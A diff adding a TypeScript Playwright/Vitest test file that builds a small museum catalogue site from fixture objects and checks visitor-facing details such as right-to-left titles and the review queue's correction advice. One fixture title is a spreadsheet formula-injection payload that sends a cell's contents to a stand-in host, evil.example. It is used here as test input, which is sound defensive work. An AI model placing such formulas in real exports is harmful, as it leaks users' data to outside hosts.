@@ -1,0 +1,87 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { type Browser, chromium, type Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildCatalogueData, buildSite } from '../../pipeline/catalogue/index.ts';
+import type { Catalogue } from '../../pipeline/catalogue/schema.ts';
+import { memoryLogger } from '../../pipeline/log.ts';
+import { defaultParams } from '../../pipeline/params.ts';
+import { workspace } from '../../pipeline/paths.ts';
+import { type FixtureObject, writeFixture } from './fixture.ts';
+import { serveSite } from './server.ts';
+
+/*
+ * Details an outside tester met on the public catalogue: the review queue's advice when no object
+ * has a "Suggest a correction" link (no repository, as in the demo), right-to-left titles, a title
+ * with no spaces at 1280 px, an object's address typed as its id is printed ("objects/DM-0267/"),
+ * rights said once, and searching "lodz" for "Łódź". One small site, read back as HTML and in Chromium.
+ */
+
+// Run in the page by Playwright (the tests' own types have no DOM).
+declare const document: { documentElement: { scrollWidth: number } };
+declare const window: { innerWidth: number };
+declare function getComputedStyle(e: unknown): { direction: string };
+
+const ARABIC = 'إناء فخاري من العصر العباسي';
+const UNBREAKABLE = `=HYPERLINK("http://evil.example/?x="&A1,"Click")${'x'.repeat(120)}`;
+
+describe('visitor details on a built site', () => {
+  let dir = '';
+  let catalogue: Catalogue;
+  let browser: Browser;
+  let page: Page;
+  let site: Awaited<ReturnType<typeof serveSite>>;
+
+  beforeAll(async () => {
+    dir = await mkdtemp(path.join(os.tmpdir(), 'vitrine-visitor-'));
+    const labels = ['vessel', 'textile'];
+    const objects: FixtureObject[] = [
+      { id: 'DM-0267', title: ARABIC, label: 'vessel', image: null, rights: 'Public domain', description: ARABIC },
+      { id: 'DM-0001', title: UNBREAKABLE, label: 'vessel', image: null, description: UNBREAKABLE },
+      { id: 'DM-0002', title: 'Plate from Łódź', label: 'vessel', image: null, rights: 'CC0 (The Met Open Access)' },
+      { id: 'DM-0003', title: 'View of the Château', label: 'textile', image: null },
+      // In the review queue: the model disagrees with the staff label.
+      {
+        id: 'DM-0004',
+        title: 'Sampler',
+        label: 'textile',
+        image: null,
+        predicted: { label: 'vessel', confidence: 0.9 },
+      },
+      { id: 'DM-0005', title: 'Jug', label: 'vessel', image: null, rights: 'Ask the registrar' },
+    ];
+    await writeFixture({ root: dir, objects, labels, withMetrics: false });
+    const ws = workspace(dir);
+    // As in the demo: no GitHub repository, so no object page can link to labels.csv on GitHub.
+    const params = defaultParams();
+    expect(params.collection.repository).toBe('');
+    catalogue = (await buildCatalogueData({ ws, params, log: memoryLogger() })).catalogue;
+    await buildSite({ ws, params, log: memoryLogger() });
+    site = await serveSite({ dir: ws.site });
+    browser = await chromium.launch({
+      executablePath: '/usr/bin/chromium',
+      args: ['--headless', '--no-sandbox', '--disable-gpu'],
+    });
+    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
+    page.setDefaultTimeout(60_000);
+  }, 300_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await site?.close();
+    if (dir) await rm(dir, { recursive: true, force: true });
+  });
+
+  const file = (...parts: string[]) => readFile(path.join(workspace(dir).site, ...parts), 'utf8');
+  const slugOf = (id: string) => catalogue.objects.find((o) => o.id === id)!.slug;
+  const objectHtml = (id: string) => file('objects', slugOf(id), 'index.html');
+
+  it('does not send staff to a "Suggest a correction" link no object page has', async () => {
+    const review = await file('review', 'index.html');
+    expect(review).toContain('Sampler');
+    expect(await objectHtml('DM-0004')).not.toContain('Suggest a correction');
+    expect(review).not.toContain('Suggest a correction');
+    expect(review).toContain('labels.csv');
+  });
+});
